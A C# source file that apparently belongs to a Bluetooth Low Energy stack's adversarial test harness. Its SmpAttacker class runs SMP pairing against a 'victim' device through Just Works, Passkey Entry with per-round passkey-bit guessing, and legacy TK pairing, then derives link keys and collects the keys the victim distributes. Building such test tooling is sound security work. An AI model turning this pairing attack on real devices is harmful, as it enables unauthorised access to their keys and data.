using System;
using System.Buffers.Binary;
using System.Linq;
using BleStack.Core;
using BleStack.Crypto;
using BleStack.Hci;

namespace BleStack.Adversary;

/// <summary>A Central that performs pairing step by step: it sends what an attack needs and computes every value an attacker can know, [Vol
/// 3, Part H] 2.3.5. Values are most significant octet first here and are reversed for transmission.</summary>
internal sealed class SmpAttacker
{
    /// <summary>Zeros for a pairing PDU's sixteen octets.</summary>
    public static readonly string Zeros = new('0', 32);

    /// <summary>NoInputNoOutput, Secure Connections, bonding, sixteen octets, no keys to distribute.</summary>
    public const string JustWorksRequest = "01 03 00 09 10 00 00";

    private readonly BleAddress _own;
    private readonly BleAddress _victim;
    private readonly SeededRandom _random;
    private string _request = "";
    private string _response = "";

    public SmpAttacker(RawPeer peer, BleAddress victim, BleAddress? own = null, ulong seed = 0xBAD)
    {
        (Peer, _victim, _own, _random) = (peer, victim, own ?? peer.Host.Address, new SeededRandom(seed));
        Keys = P256KeyPair.Generate(_random);
    }

    public RawPeer Peer { get; }

    public P256KeyPair Keys { get; set; }

    public P256PublicKey Theirs { get; private set; } = null!;

    /// <summary>The agreed key size in octets.</summary>
    public int KeySize => Math.Min(RawPeer.Hex(_request)[4], RawPeer.Hex(_response)[4]);

    /// <summary>Reverses octets to transmission order.</summary>
    public static string Wire(ReadOnlySpan<byte> value) => Convert.ToHexString(value.ToArray().Reverse().ToArray());

    /// <summary>The value of a received "code, octets" PDU, most significant octet first.</summary>
    public static byte[] Value(string pdu) => [.. RawPeer.Hex(pdu[2..]).Reverse()];

    /// <summary>Both coordinates in transmission order.</summary>
    public static string PublicKey(ReadOnlySpan<byte> x, ReadOnlySpan<byte> y) => "0C" + Wire(x) + Wire(y);

    public static byte[] Passkey(uint passkey)
    {
        byte[] value = new byte[16];
        BinaryPrimitives.WriteUInt32BigEndian(value.AsSpan(12), passkey);
        return value;
    }

    public string Send(string pdu)
    {
        Peer.Send(RawPeer.Smp, pdu);
        return pdu;
    }

    /// <summary>Sends one PDU and returns the answer to it.</summary>
    public string Ask(string pdu)
    {
        Send(pdu);
        return Next();
    }

    public string Next() => Peer.Next(RawPeer.Smp);

    /// <summary>Phase 1; returns the answer, a response or a refusal.</summary>
    public string Begin(string request)
    {
        _request = request.Replace(" ", "", StringComparison.Ordinal);
        return _response = Ask(request);
    }

    /// <summary>Exchanges public keys; returns the answer to ours: "0C…" or a refusal.</summary>
    public string ExchangeKeys()
    {
        string answer = Ask(PublicKey(Keys.Public.X, Keys.Public.Y));
        if (answer.StartsWith("0C", StringComparison.Ordinal)) Take(answer);
        return answer;
    }

    /// <summary>Stores the victim's public key.</summary>
    public void Take(string pdu)
    {
        byte[] octets = RawPeer.Hex(pdu[2..]);
        Theirs = P256PublicKey.TryCreate([.. octets[..32].Reverse()], [.. octets[32..].Reverse()], out P256PublicKey? key) ? key
            : throw new AdversaryException("The victim's public key is no point of the curve.");
    }

    /// <summary>Pairs by Just Works, as any device in range may, and encrypts.</summary>
    public void PairByJustWorks()
    {
        Begin(JustWorksRequest);
        Encrypt(JustWorks(), 0);
    }

    /// <summary>Runs Just Works from the public keys to both DHKey checks; returns the LTK.</summary>
    public byte[] JustWorks()
    {
        AdversaryException.Begins("0C", ExchangeKeys());
        byte[] confirm = Value(Next());
        byte[] na = Random(16);
        byte[] nb = Value(Ask("04" + Wire(na)));
        AdversaryException.Unless(Confirm(Theirs.X, Keys.Public.X, nb, 0).SequenceEqual(confirm), "The victim's confirm value is wrong.");
        return Check(na, nb, 0);
    }

    /// <summary>Runs one round of Passkey Entry with a guess of its bit; returns the victim's answer: its nonce or a refusal.</summary>
    public string Round(int bit, out byte[] na)
    {
        byte z = (byte)(0x80 | bit);
        na = Random(16);
        string confirm = Ask("03" + Wire(Confirm(Keys.Public.X, Theirs.X, na, z)));
        AdversaryException.Begins("03", confirm);
        return Ask("04" + Wire(na));
    }

    /// <summary>
    /// Runs Passkey Entry with this passkey from the public keys to both checks; returns the LTK, or null when a bit was wrong.
    /// </summary>
    public byte[]? PasskeyEntry(uint passkey, out int rounds)
    {
        AdversaryException.Begins("0C", ExchangeKeys());
        return Rounds(passkey, out rounds);
    }

    /// <summary>Runs Passkey Entry with this passkey after the public keys have been exchanged.</summary>
    public byte[]? Rounds(uint passkey) => Rounds(passkey, out _);

    private byte[]? Rounds(uint passkey, out int rounds)
    {
        (byte[] na, string answer) = ([], "");
        for (rounds = 0; rounds < 20; rounds++)
        {
            answer = Round((int)(passkey >> rounds & 1), out na);
            if (answer.StartsWith("05", StringComparison.Ordinal)) return null;
        }

        return Check(na, Value(answer), passkey);
    }

    /// <summary>Exchanges DHKey checks; returns the LTK, shortened to the agreed size.</summary>
    public byte[] Check(byte[] na, byte[] nb, uint passkey)
    {
        string answer = SendCheck(na, nb, passkey, out byte[] ltk, out byte[] theirCheck);
        AdversaryException.Expect("0D" + Wire(theirCheck), answer);
        return ltk;
    }

    /// <summary>Sends our check; returns the received and the expected answer.</summary>
    public string SendCheck(byte[] na, byte[] nb, uint passkey, out byte[] ltk, out byte[] theirCheck)
    {
        Derive(Keys, Theirs, na, nb, out byte[] macKey, out ltk);
        byte[] r = Passkey(passkey), own = new byte[16];
        theirCheck = new byte[16];
        SmpFunctions.F6(macKey, na, nb, r, IoCap(_request), _own, _victim, own);
        SmpFunctions.F6(macKey, nb, na, r, IoCap(_response), _victim, _own, theirCheck);
        Shorten(ltk);
        return Ask("0D" + Wire(own));
    }

    /// <summary>MacKey and LTK, f5.</summary>
    public void Derive(P256KeyPair own, P256PublicKey theirs, byte[] na, byte[] nb, out byte[] macKey, out byte[] ltk)
    {
        byte[] dhKey = new byte[32];
        own.Agree(theirs, dhKey);
        (macKey, ltk) = (new byte[16], new byte[16]);
        SmpFunctions.F5(dhKey, na, nb, _own, _victim, macKey, ltk);
    }

    /// <summary>Runs legacy phase 2 with this TK; returns the STK, or null when the victim refuses.</summary>
    public byte[]? Legacy(byte[] tk)
    {
        byte[] mrand = Random(16);
        string confirm = Ask("03" + Wire(C1(tk, mrand)));
        if (confirm.StartsWith("05", StringComparison.Ordinal)) return null;
        string random = Ask("04" + Wire(mrand));
        if (random.StartsWith("05", StringComparison.Ordinal)) return null;
        AdversaryException.Unless(C1(tk, Value(random)).SequenceEqual(Value(confirm)), "The victim's confirm value is wrong.");
        byte[] stk = new byte[16];
        SmpFunctions.S1(tk, Value(random), mrand, stk);
        return Shorten(stk);
    }

    /// <summary>Encrypts and returns the keys that the victim distributes, as "06…|07…".</summary>
    public string Encrypt(byte[] key, int keys)
    {
        AdversaryException.Expect(HciErrorCode.Success, Peer.Encrypt(key));
        return string.Join('|', Enumerable.Range(0, keys).Select(_ => Next()));
    }

    public byte[] Random(int size)
    {
        byte[] value = new byte[size];
        _random.Fill(value);
        return value;
    }

    public static byte[] Confirm(ReadOnlySpan<byte> u, ReadOnlySpan<byte> v, ReadOnlySpan<byte> nonce, byte z)
    {
        byte[] confirm = new byte[16];
        SmpFunctions.F4(u, v, nonce, z, confirm);
        return confirm;
    }

    public static byte[] IoCap(string pdu)
    {
        byte[] octets = RawPeer.Hex(pdu);
        return [octets[3], octets[2], octets[1]];
    }

    private byte[] C1(byte[] tk, byte[] random)
    {
        byte[] confirm = new byte[16];
        SmpFunctions.C1(tk, random, RawPeer.Hex(_request), RawPeer.Hex(_response), _own, _victim, confirm);
        return confirm;
    }

    private byte[] Shorten(byte[] key)
    {
        key.AsSpan(0, 16 - KeySize).Clear();
        return key;
    }
}
